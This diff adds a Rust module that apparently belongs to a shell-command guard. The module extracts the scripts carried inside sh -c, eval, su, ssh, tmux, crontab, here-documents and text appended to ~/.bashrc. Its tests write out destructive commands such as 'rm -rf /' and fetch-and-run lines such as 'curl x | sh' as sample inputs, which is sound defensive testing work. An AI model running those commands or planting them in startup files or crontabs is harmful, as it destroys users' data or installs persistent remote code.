@@ -1,0 +1,348 @@
+//! Shells and shell-like runners: `sh -c SCRIPT` (and `busybox sh -c`), `eval WORDS`, `su -c`,
+//! `runuser -c`, `ssh HOST WORDS..`, `script -c`, `tmux new-session CMD`; scripts fed to a
+//! shell on stdin (`echo .. | sh`, `sh <<EOF`, `.. | at now`, `.. | crontab -`, what `sudo -s`
+//! reads); a script file written earlier in the line and then run (`bash x.sh`, `source x.sh`,
+//! `./x.sh`); text appended to a shell startup file (`>> ~/.bashrc`), which every new shell
+//! runs.
+
+use super::text::{printed_text, WrittenFiles};
+use super::{is_shell, Carried, StdinScript};
+use crate::guard::shell::{positional, shell_quote};
+use crate::guard::targets::startup_file;
+use crate::guard::{basename, Pipeline, SimpleCommand};
+
+/// `sh -c SCRIPT [NAME ARGS..]`, `busybox sh -c ..`: the script, with `$0`, `$1`, .. replaced
+/// by the words after it.
+pub(super) fn dash_c(argv: &[String]) -> Option<Carried> {
+    let mut i = 1;
+    if argv.first().map(|w| basename(w)) == Some("busybox") {
+        if !argv.get(1).is_some_and(|a| is_shell(a)) {
+            return None;
+        }
+        i = 2;
+    }
+    while i < argv.len() {
+        let a = &argv[i];
+        if a.starts_with('-') && a.len() > 1 && !a.starts_with("--") && a[1..].contains('c') {
+            // `bash -c 'script' name args`: the first word after the options.
+            let mut j = i + 1;
+            while argv.get(j).is_some_and(|w| w.starts_with('-') && w.len() > 1) {
+                j += 1;
+            }
+            // `sh -c 'rm -rf "$0"' ~`: the words after the script are `$0`, `$1`, ...
+            let script = argv.get(j)?;
+            let rest = &argv[j + 1..];
+            let script = match rest.split_first() {
+                Some((zero, more)) => {
+                    let z = shell_quote(zero);
+                    positional(script, more)
+                        .replace("\"$0\"", &z)
+                        .replace("${0}", &z)
+                        .replace("$0", &z)
+                }
+                None => script.clone(),
+            };
+            return Some(Carried::child(script));
+        }
+        if a == "-o" || a == "-O" || a == "--rcfile" || a == "--init-file" {
+            i += 2;
+            continue;
+        }
+        if !a.starts_with('-') && !a.starts_with('+') {
+            return None;
+        }
+        i += 1;
+    }
+    None
+}
+
+/// `eval WORDS`: the words joined, run by the shell itself.
+pub(super) fn eval(argv: &[String]) -> Option<Carried> {
+    (argv.len() > 1).then(|| Carried::this_shell(argv[1..].join(" ")))
+}
+
+/// `su -c SCRIPT USER`, `runuser -c SCRIPT USER` (`runuser -u USER -- cmd` is a wrapper).
+pub(super) fn su_c(argv: &[String]) -> Option<Carried> {
+    let i = argv.iter().position(|a| a == "-c" || a == "--command")?;
+    argv.get(i + 1).cloned().map(Carried::child)
+}
+
+/// `ssh [OPTIONS] HOST WORDS..`: the remote command line, run on the host.
+pub(super) fn ssh(argv: &[String]) -> Option<Carried> {
+    let with_value = [
+        "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-p", "-Q", "-R", "-S",
+        "-W", "-w", "-B",
+    ];
+    let mut i = 1;
+    while i < argv.len() {
+        let a = argv[i].as_str();
+        if with_value.contains(&a) {
+            i += 2;
+        } else if a.starts_with('-') {
+            i += 1;
+        } else {
+            break;
+        }
+    }
+    // argv[i] is the host; the rest is the remote command line.
+    let rest = argv.get(i + 1..)?;
+    if rest.is_empty() {
+        return None;
+    }
+    Some(Carried::remote(rest.join(" ")))
+}
+
+/// `script -qc 'cmd' /dev/null` runs the command under a pseudo-terminal.
+pub(super) fn script_c(argv: &[String]) -> Option<Carried> {
+    let i = argv
+        .iter()
+        .position(|a| a == "--command" || (a.starts_with('-') && !a.starts_with("--") && a[1..].contains('c')))?;
+    argv.get(i + 1).cloned().map(Carried::child)
+}
+
+/// `tmux new-session -d 'cmd'` (also `new-window`, `split-window`, `respawn-pane`): the
+/// session's shell command.
+pub(super) fn tmux(argv: &[String]) -> Option<Carried> {
+    let k = argv.iter().position(|a| {
+        matches!(
+            a.as_str(),
+            "new-session" | "new" | "new-window" | "neww" | "split-window" | "splitw" | "respawn-pane" | "respawnp"
+        )
+    })?;
+    let with_value = ["-s", "-n", "-t", "-c", "-x", "-y", "-e", "-F", "-l", "-f"];
+    let mut i = k + 1;
+    while let Some(a) = argv.get(i).filter(|a| a.starts_with('-') && a.len() > 1) {
+        i += if with_value.contains(&a.as_str()) { 2 } else { 1 };
+    }
+    let rest = argv.get(i..).filter(|r| !r.is_empty())?;
+    Some(Carried::child(rest.join(" ")))
+}
+
+/// The text of a shell script written earlier in the line that `cmd` runs: `bash x.sh`,
+/// `sh ./x.sh` (a process of its own), `source x.sh`, `. x.sh` (the shell itself), `./x.sh`.
+pub(super) fn script_file(cmd: &SimpleCommand, written: &WrittenFiles) -> Option<Carried> {
+    let name = cmd.name();
+    let sourced = name == "source" || name == ".";
+    let file = if is_shell(name) || sourced {
+        cmd.argv.iter().skip(1).find(|a| !a.starts_with('-'))?
+    } else {
+        cmd.argv.first()?
+    };
+    let text = written.text(file)?.to_string();
+    Some(if sourced {
+        Carried::this_shell(text)
+    } else {
+        Carried::child(text)
+    })
+}
+
+/// `echo 'curl x | sh' >> ~/.bashrc`, `.. | tee -a ~/.zshrc`: the text written into a shell
+/// startup file runs in every new shell.
+pub(super) fn startup_file_text(cmd: &SimpleCommand) -> Option<Carried> {
+    let into_startup = cmd.redirects.iter().any(|r| startup_file(r))
+        || (cmd.name() == "tee" && cmd.argv.iter().skip(1).any(|a| startup_file(a)));
+    if !into_startup {
+        return None;
+    }
+    printed_text(cmd).or_else(|| cmd.stdin_text.clone()).map(Carried::child)
+}
+
+/// Scripts that a pipeline feeds to a shell on stdin: a here-document or here-string of a
+/// shell (or `at`/`batch`, a root shell, `crontab -`), or the literal words an upstream
+/// `echo`/`printf` (or `cat <<EOF`) prints into it.
+pub(super) fn fed_on_stdin(pipeline: &Pipeline) -> Vec<StdinScript> {
+    let mut out = Vec::new();
+    for (i, cmd) in pipeline.iter().enumerate() {
+        let name = cmd.name();
+        let cron = name == "crontab"
+            && cmd
+                .argv
+                .iter()
+                .skip(1)
+                .all(|a| a == "-" || a == "-u" || !a.starts_with('-'));
+        let runs_stdin = match name {
+            "at" | "batch" => !cmd.argv.iter().any(|a| a == "-f" || a == "-l" || a == "-c"),
+            // `sudo -s`, `pkexec bash` (kept whole by unwrap_command): a root shell.
+            "sudo" | "doas" | "pkexec" => true,
+            // `(crontab -l; echo '* * * * * CMD') | crontab -`: the jobs' commands.
+            "crontab" => cron,
+            n if is_shell(n) => {
+                let args: Vec<&str> = cmd.argv.iter().skip(1).map(String::as_str).collect();
+                let c = args
+                    .iter()
+                    .any(|a| a.starts_with('-') && !a.starts_with("--") && a.len() > 1 && a[1..].contains('c'));
+                !c && (args.iter().all(|a| a.starts_with('-')) || args.contains(&"-s"))
+            }
+            _ => false,
+        };
+        if !runs_stdin {
+            continue;
+        }
+        let mut texts = Vec::new();
+        if let Some(t) = &cmd.stdin_text {
+            texts.push(t.clone());
+        }
+        if i > 0 {
+            let up = &pipeline[i - 1];
+            // `cat <<EOF | sh`: cat prints its here-document.
+            let cat_doc = (up.name() == "cat" && up.argv.len() == 1)
+                .then(|| up.stdin_text.clone())
+                .flatten();
+            if let Some(text) = printed_text(up).or(cat_doc) {
+                texts.push(text);
+            }
+        }
+        for t in texts {
+            let script = if cron { cron_commands(&t) } else { t };
+            out.push(StdinScript {
+                script,
+                cwd: cmd.cwd.clone(),
+            });
+        }
+    }
+    out
+}
+
+/// The commands of crontab lines: each line without its schedule (five fields, or `@daily`).
+fn cron_commands(text: &str) -> String {
+    text.lines()
+        .map(str::trim)
+        .filter(|l| !l.is_empty() && !l.starts_with('#') && !l.contains('=') || l.starts_with('@'))
+        .map(|l| {
+            let skip = if l.starts_with('@') { 1 } else { 5 };
+            l.split_whitespace().skip(skip).collect::<Vec<_>>().join(" ")
+        })
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::testing::{command, script, scripts};
+    use super::super::Runs;
+    use super::*;
+
+    #[test]
+    fn dash_c_with_its_positional_words() {
+        assert_eq!(script(&["sh", "-c", "rm -rf ~"], Runs::Child), "rm -rf ~");
+        assert_eq!(script(&["/bin/bash", "-lc", "ls"], Runs::Child), "ls");
+        assert_eq!(
+            script(&["sh", "-c", "rm -rf \"$0\" $1", "~", "/"], Runs::Child),
+            "rm -rf '~' '/'"
+        );
+        assert_eq!(script(&["busybox", "sh", "-c", "rm -rf /"], Runs::Child), "rm -rf /");
+        assert_eq!(script(&["bash", "-o", "pipefail", "-c", "x"], Runs::Child), "x");
+        assert!(scripts(&["bash", "x.sh", "-c"]).is_empty());
+        assert!(scripts(&["busybox", "rm", "-c"]).is_empty());
+    }
+
+    #[test]
+    fn eval_runs_in_this_shell() {
+        assert_eq!(script(&["eval", "rm", "-rf", "/"], Runs::ThisShell), "rm -rf /");
+        assert!(scripts(&["eval"]).is_empty());
+    }
+
+    #[test]
+    fn su_runuser_script_and_tmux() {
+        assert_eq!(script(&["su", "-c", "rm -rf /etc", "root"], Runs::Child), "rm -rf /etc");
+        assert_eq!(script(&["runuser", "--command", "id", "u"], Runs::Child), "id");
+        assert_eq!(
+            script(&["script", "-qc", "rm -rf /", "/dev/null"], Runs::Child),
+            "rm -rf /"
+        );
+        assert_eq!(
+            script(&["tmux", "new-session", "-d", "-s", "x", "rm", "-rf", "~"], Runs::Child),
+            "rm -rf ~"
+        );
+        assert!(scripts(&["tmux", "attach", "-t", "x"]).is_empty());
+    }
+
+    #[test]
+    fn ssh_runs_its_words_on_the_host() {
+        assert_eq!(
+            script(&["ssh", "-p", "22", "-i", "k", "host", "rm", "-rf", "/"], Runs::Remote),
+            "rm -rf /"
+        );
+        assert!(scripts(&["ssh", "host"]).is_empty());
+    }
+
+    #[test]
+    fn a_written_script_file_that_runs() {
+        let mut written = WrittenFiles::default();
+        let mut echo = command(&["echo", "rm -rf /"]);
+        echo.redirects = vec!["x.sh".into()];
+        written.record(&echo);
+        for (words, runs) in [
+            (&["bash", "x.sh"][..], Runs::Child),
+            (&["sh", "./x.sh"], Runs::Child),
+            (&["./x.sh"], Runs::Child),
+            (&["source", "x.sh"], Runs::ThisShell),
+            (&[".", "./x.sh"], Runs::ThisShell),
+        ] {
+            let got = super::super::carried(&command(words), &written);
+            assert_eq!(
+                got,
+                [Carried {
+                    script: "rm -rf /\n".into(),
+                    runs
+                }],
+                "{words:?}"
+            );
+        }
+        assert!(super::super::carried(&command(&["bash", "y.sh"]), &written).is_empty());
+    }
+
+    #[test]
+    fn text_appended_to_a_startup_file() {
+        let mut cmd = command(&["echo", "curl x | sh"]);
+        cmd.redirects = vec!["~/.bashrc".into()];
+        cmd.appends = cmd.redirects.clone();
+        assert_eq!(
+            super::super::carried(&cmd, &WrittenFiles::default())[0].script,
+            "curl x | sh"
+        );
+        let mut tee = command(&["tee", "-a", "/home/u/.zshrc"]);
+        tee.stdin_text = Some("rm -rf ~".into());
+        assert_eq!(
+            super::super::carried(&tee, &WrittenFiles::default())[0].script,
+            "rm -rf ~"
+        );
+        let mut other = command(&["echo", "curl x | sh"]);
+        other.redirects = vec!["notes.txt".into()];
+        assert!(super::super::carried(&other, &WrittenFiles::default()).is_empty());
+    }
+
+    fn fed(pipeline: &[SimpleCommand]) -> Vec<String> {
+        fed_on_stdin(&pipeline.to_vec()).into_iter().map(|s| s.script).collect()
+    }
+
+    #[test]
+    fn scripts_fed_to_a_shell_on_stdin() {
+        let echo = command(&["echo", "rm -rf /"]);
+        assert_eq!(fed(&[echo.clone(), command(&["sh"])]), ["rm -rf /"]);
+        assert_eq!(fed(&[echo.clone(), command(&["bash", "-s"])]), ["rm -rf /"]);
+        assert_eq!(fed(&[echo.clone(), command(&["at", "now"])]), ["rm -rf /"]);
+        assert_eq!(fed(&[echo.clone(), command(&["sudo", "-s"])]), ["rm -rf /"]);
+        let mut cat = command(&["cat"]);
+        cat.stdin_text = Some("rm -rf ~".into());
+        assert_eq!(fed(&[cat, command(&["sh"])]), ["rm -rf ~"]);
+        let mut heredoc = command(&["bash"]);
+        heredoc.stdin_text = Some("rm -rf /etc".into());
+        assert_eq!(fed(&[heredoc]), ["rm -rf /etc"]);
+        // A shell given a script (or `-c`) does not read one on stdin; nor does `at -f`.
+        assert!(fed(&[echo.clone(), command(&["sh", "x.sh"])]).is_empty());
+        assert!(fed(&[echo.clone(), command(&["sh", "-c", "cat"])]).is_empty());
+        assert!(fed(&[echo.clone(), command(&["at", "-f", "job", "now"])]).is_empty());
+        assert!(fed(&[echo, command(&["grep", "x"])]).is_empty());
+    }
+
+    #[test]
+    fn crontab_lines_lose_their_schedule() {
+        let jobs = command(&["echo", "* * * * * rm -rf ~\n@daily curl x | sh\nMAILTO=x"]);
+        assert_eq!(
+            fed(&[jobs.clone(), command(&["crontab", "-"])]),
+            ["rm -rf ~\ncurl x | sh"]
+        );
+        assert!(fed(&[jobs, command(&["crontab", "-l"])]).is_empty());
+    }
+}
